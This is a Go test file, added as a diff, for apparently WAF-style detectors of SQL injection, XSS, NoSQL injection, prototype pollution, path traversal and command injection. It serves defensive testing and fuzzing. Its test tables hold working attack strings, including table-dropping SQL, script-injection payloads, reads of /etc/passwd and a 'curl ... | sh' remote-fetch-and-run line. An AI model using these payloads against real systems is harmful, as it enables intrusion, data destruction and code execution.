@@ -1,0 +1,107 @@
+package policies
+
+import (
+	"strings"
+	"testing"
+)
+
+type detectCase struct {
+	in   string
+	want bool
+}
+
+var detectTables = map[string]struct {
+	fn    func(string) bool
+	cases []detectCase
+}{
+	"sqli": {detectSQLi, []detectCase{
+		{"' OR '1'='1", true}, {"1 UNION SELECT username, password FROM users", true}, {"1' AND SLEEP(5)--", true},
+		{"admin'--", true}, {"1; DROP TABLE users", true}, {"1 or 1=1", true}, {"' union/**/select null--", true},
+		{"O'Brien", false}, {"select the best option from the list", false}, {"if (a < b && c > d) { x = 1; }", false},
+		{`he said "or" not`, false}, {"5 > 3 and 2 < 4", false}, {"The union select committee met", false},
+		{"Haßelt (1599).", false}, {"time.sleep(1)", false},
+	}},
+	"xss": {detectXSS, []detectCase{
+		{"<script>alert(1)</script>", true}, {"<img src=x onerror=alert(1)>", true}, {"javascript:alert(1)", true},
+		{"\" onmouseover=\"alert(1)", true}, {"{{constructor.constructor('alert(1)')()}}", true}, {"<svg/onload=alert(1)>", true},
+		{"<b>bold</b>", false}, {`<a href="https://example.com">x</a>`, false}, {"JavaScript: the good parts", false},
+		{"style=color:red;background:white", false}, {"a < b > c", false}, {"alert('Saved!')", false},
+	}},
+	"nosql": {detectNoSQL, []detectCase{
+		{`{"$ne": null}`, true}, {`user[$regex]=.*`, true}, {`{"$where":"this.a == 1"}`, true},
+		{"$100 price", false}, {"costs $gt than", false},
+	}},
+	"proto": {detectProtoValue, []detectCase{
+		{"__proto__[isAdmin]=1", true}, {"constructor[prototype][x]", true}, {"__proto__.x=1", true},
+		{"The prototype is ready", false}, {"proto buffers", false},
+	}},
+	"traversal": {detectTraversal, []detectCase{
+		{"../../etc/passwd", true}, {`..\..\windows\win.ini`, true}, {"/proc/self/environ", true}, {"....//....//etc", true},
+		{"../.env", true}, {"docs/getting-started.md", false}, {"Wait... what?", false}, {"../ means parent", false},
+		{"firstname.dockery@host.tld", false}, {"/test.environment", false}, {`C:\Users\Public`, false},
+	}},
+	"cmdi": {func(s string) bool { return detectCmdi(s, true) }, []detectCase{
+		{"; cat /etc/passwd", true}, {"| whoami", true}, {"$(id)", true}, {"`id`", true}, {";${IFS}cat${IFS}/etc/passwd", true},
+		{"; w'h'o'am'i", true}, {"127.0.0.1 && curl http://x/y | sh", true}, {"\nid\n", true}, {"/etc/pas[s]wd", true},
+		{"cats; dogs; birds", false}, {"Tom & Jerry", false}, {"AT&T", false}, {"Time | Date | Place", false},
+		{"Use `ls -la` to list files in the directory", false}, {"python tutorial", false}, {"curl/8.4.0", false},
+		{"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0", false}, {"a hero; more than", false},
+	}},
+}
+
+func TestDetectors(t *testing.T) {
+	for fam, tab := range detectTables {
+		for _, c := range tab.cases {
+			t.Run(fam+"/"+c.in, func(t *testing.T) {
+				if got := tab.fn(c.in); got != c.want {
+					t.Errorf("%s(%q) = %v, want %v", fam, c.in, got, c.want)
+				}
+			})
+		}
+	}
+}
+
+func TestDetectPathTraversal(t *testing.T) {
+	tests := []detectCase{{"/.git/HEAD", true}, {"/.env", true}, {"/backup.sql.zip", true}, {"/a/../../etc/passwd", true},
+		{"/.well-known/openid-configuration", false}, {"/api/v1/users", false}, {"/static/app.min.js", false}}
+	for _, tt := range tests {
+		if got := detectPathTraversal(tt.in); got != tt.want {
+			t.Errorf("detectPathTraversal(%q) = %v, want %v", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestNoSQLOperatorKey(t *testing.T) {
+	for k, want := range map[string]bool{"$ne": true, "$Where": true, "$gte": true, "ne": false, "$price": false, "$": false} {
+		if got := isNoSQLOperatorKey(k); got != want {
+			t.Errorf("isNoSQLOperatorKey(%q) = %v, want %v", k, got, want)
+		}
+	}
+}
+
+// TestDetectorsLinear checks adversarial inputs finish (RE2 and libinjection are linear): a
+// quadratic detector would take minutes on these.
+func TestDetectorsLinear(t *testing.T) {
+	inputs := []string{strings.Repeat("'", 1<<20), strings.Repeat("[", 1<<20), strings.Repeat("<a ", 1<<18),
+		strings.Repeat(";cat ", 1<<17), strings.Repeat("../", 1<<18), strings.Repeat("%25", 1<<18)}
+	for _, in := range inputs {
+		for _, v := range valueVariants(in, true, nil) {
+			detectAll(v, LocBody, false, famAll)
+		}
+	}
+}
+
+func fuzzDetector(f *testing.F, fam string) {
+	for _, c := range detectTables[fam].cases {
+		f.Add(c.in)
+	}
+	fn := detectTables[fam].fn
+	f.Fuzz(func(t *testing.T, s string) { fn(s) })
+}
+
+func FuzzDetectSQLi(f *testing.F)      { fuzzDetector(f, "sqli") }
+func FuzzDetectXSS(f *testing.F)       { fuzzDetector(f, "xss") }
+func FuzzDetectNoSQL(f *testing.F)     { fuzzDetector(f, "nosql") }
+func FuzzDetectProto(f *testing.F)     { fuzzDetector(f, "proto") }
+func FuzzDetectTraversal(f *testing.F) { fuzzDetector(f, "traversal") }
+func FuzzDetectCmdi(f *testing.F)      { fuzzDetector(f, "cmdi") }
